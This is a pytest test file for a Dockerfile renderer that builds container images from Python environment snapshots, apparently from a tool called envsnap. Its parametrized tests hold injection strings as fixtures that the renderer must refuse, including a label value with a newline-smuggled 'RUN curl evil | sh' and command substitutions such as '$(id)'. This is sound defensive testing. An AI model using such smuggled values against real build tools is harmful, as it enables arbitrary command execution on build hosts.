"""Dockerfile rendering (pure): base choice, layer split, labels, env, refusal of hostile input."""

from __future__ import annotations

import re

import pytest

from envsnap.errors import BadInputError
from envsnap.image import choose_base, portable_snapshot, render
from envsnap.lock import LockedFile, LockedPin, plan
from envsnap.lock.model import HashedLock
from envsnap.snapshot import Framework, Package, Snapshot, Source
from envsnap.testing import cpu_venv_snapshot, python_env

H = "d" * 64


def _snap(*pkgs: Package, version: str = "3.11.7", **kw: object) -> Snapshot:
    prefix = "/home/alice/venv"  # a user's home: never in what the image build writes
    return cpu_venv_snapshot(python=python_env(*pkgs, version=version, prefix=prefix,
                                               executable=f"{prefix}/bin/python"), **kw)


def _lock(snap: Snapshot, sizes: dict[str, int] | None = None) -> HashedLock:
    p = plan(snap)
    return HashedLock(plan=p, unlockable=(), policy="wheelhouse", pins=tuple(
        LockedPin(name=x.name, version=x.version, origin="wheelhouse", files=(LockedFile(
            filename=f"{x.name}-{x.version}-py3-none-any.whl", sha256=H,
            size=(sizes or {}).get(x.name, 1000)),)) for x in p.pins))


BASIC = (Package(name="pip", version="23.2.1"), Package(name="six", version="1.16.0"),
         Package(name="torch", version="2.3.1+cu121"), Package(name="attrs", version="23.2.0"))


def test_cpu_snapshot_gets_slim_python_of_the_same_patch() -> None:
    base = choose_base(_snap(Package(name="six", version="1.16.0")))
    assert base.ref == "python:3.11.7-slim" and base.python == "python3"


def test_torch_cuda_gets_cudnn_less_runtime_with_matching_python() -> None:
    base = choose_base(_snap(*BASIC))
    assert base.ref == "nvidia/cuda:12.1.1-runtime-ubuntu22.04"
    assert base.python == "python3.11" and "python3.11-venv" in base.apt_python


def test_tensorflow_links_system_cudnn() -> None:
    snap = _snap(Package(name="tensorflow", version="2.15.0"), version="3.10.12",
                 frameworks=(Framework(name="tensorflow", version="2.15.0", cuda="12.2"),))
    base = choose_base(snap)
    assert base.ref == "nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu22.04"
    assert base.python == "python3"


def test_unknown_cuda_is_a_clear_error() -> None:
    with pytest.raises(BadInputError, match=r"CUDA 9\.9"):
        choose_base(_snap(Package(name="torch", version="1.0+cu99")))


def test_render_is_deterministic_and_orders_layers() -> None:
    snap = _snap(*BASIC, env={"PYTHONHASHSEED": "0", "CUBLAS_WORKSPACE_CONFIG": ":4096:8",
                              "HOME": "/root"})
    base = choose_base(snap, "envsnap-base:bookworm")
    a = render(snap, _lock(snap), base=base, offline=True, labels={"team": "vision"})
    b = render(snap, _lock(snap), base=base, offline=True, labels={"team": "vision"})
    assert a.dockerfile == b.dockerfile and a.files == b.files
    assert a.heavy == ("pip", "torch") and a.light == ("attrs", "six")
    text = a.dockerfile
    assert text.index("heavy.txt") < text.index("light.txt") < text.index("LABEL")
    assert "--require-hashes --no-deps" in text
    assert 'ENV PYTHONHASHSEED="0"' in text and 'ENV CUBLAS_WORKSPACE_CONFIG=":4096:8"' in text
    assert "HOME" not in re.findall(r"^ENV .*", text, re.M)[-1]  # not on the allowlist
    assert f'"io.envsnap.snapshot.digest"="{snap.digest}"' in text
    assert '"team"="vision"' in text and "USER envsnap" in text
    assert "/home/alice" not in text + "".join(a.files.values())
    assert a.wheels["heavy"] == ("pip-23.2.1-py3-none-any.whl",
                                 "torch-2.3.1+cu121-py3-none-any.whl")


def test_big_wheels_are_heavy_and_extra_names_too() -> None:
    snap = _snap(*BASIC)
    out = render(snap, _lock(snap, {"six": 64 << 20}), base=choose_base(snap), offline=False,
                 heavy_extra=["attrs"])
    assert out.light == () and "six" in out.heavy and "attrs" in out.heavy
    assert "--index-url https://pypi.org/simple" in out.dockerfile
    assert "--extra-index-url https://download.pytorch.org/whl/cu121" in out.dockerfile


def test_portable_snapshot_has_no_machine_paths_and_a_true_digest() -> None:
    from envsnap.io import loads

    snap = _snap(Package(name="mine", version="0.1",
                         source=Source(kind="editable", url="file:///home/alice/mine")))
    text = portable_snapshot(snap)
    assert "alice" not in text
    loaded = loads(text)  # no SnapshotEditedWarning: the digest matches the content
    assert loaded.python is not None and loaded.python.packages[0].name == "mine"


def test_patch_difference_is_reported() -> None:
    snap = _snap(Package(name="six", version="1.16.0"))
    base = choose_base(snap)
    base = base.__class__(ref=base.ref, python="python3", reason="x", python_version="3.11.2")
    assert render(snap, _lock(snap), base=base, offline=True).notes == (
        "the image runs Python 3.11.2, the snapshot 3.11.7 (patch differs)",)


@pytest.mark.parametrize("labels,env", [
    ({"x": 'a"\nRUN curl evil | sh'}, {}),
    ({"x": "$(id)"}, {}),
    ({"x": "a`id`"}, {}),
    ({"bad key": "v"}, {}),
    ({}, {"PYTHONHASHSEED": "0\nRUN id"}),
    ({}, {"PYTHONHASHSEED": "0; id"}),
    ({}, {"CUBLAS_WORKSPACE_CONFIG": "'x'"}),
])
def test_hostile_labels_and_env_refused(labels: dict[str, str], env: dict[str, str]) -> None:
    snap = _snap(Package(name="six", version="1.16.0"), env=env)
    with pytest.raises(BadInputError):  # from plan() (env) or render() (labels)
        render(snap, _lock(snap), base=choose_base(snap), offline=True, labels=labels)


@pytest.mark.parametrize("ref", ["img:1\nRUN id", "img:1 AS x", "img;id", "IMG:1"])
def test_hostile_base_image_refused(ref: str) -> None:
    snap = _snap(Package(name="six", version="1.16.0"))
    with pytest.raises(BadInputError, match="base image"):
        render(snap, _lock(snap), base=choose_base(snap, ref), offline=True)


def test_allowed_odd_values_cannot_add_instructions() -> None:
    """Every character the gate lets through, in a label and an env value: the rendered
    Dockerfile has exactly the same instructions as with a plain value."""
    odd = "a b_.,:/=+@%~^[]{}-Z 0"
    plain = _snap(Package(name="six", version="1.16.0"), env={"PYTHONHASHSEED": "0"})
    weird = _snap(Package(name="six", version="1.16.0"), env={"PYTHONHASHSEED": odd})

    def instructions(text: str) -> list[str]:
        logical = re.sub(r"\\\n", " ", text)
        return [ln.split()[0] for ln in logical.splitlines() if ln and not ln.startswith("#")]

    a = render(plain, _lock(plain), base=choose_base(plain), offline=True, labels={"k": "v"})
    b = render(weird, _lock(weird), base=choose_base(weird), offline=True, labels={"k": odd})
    assert instructions(a.dockerfile) == instructions(b.dockerfile)
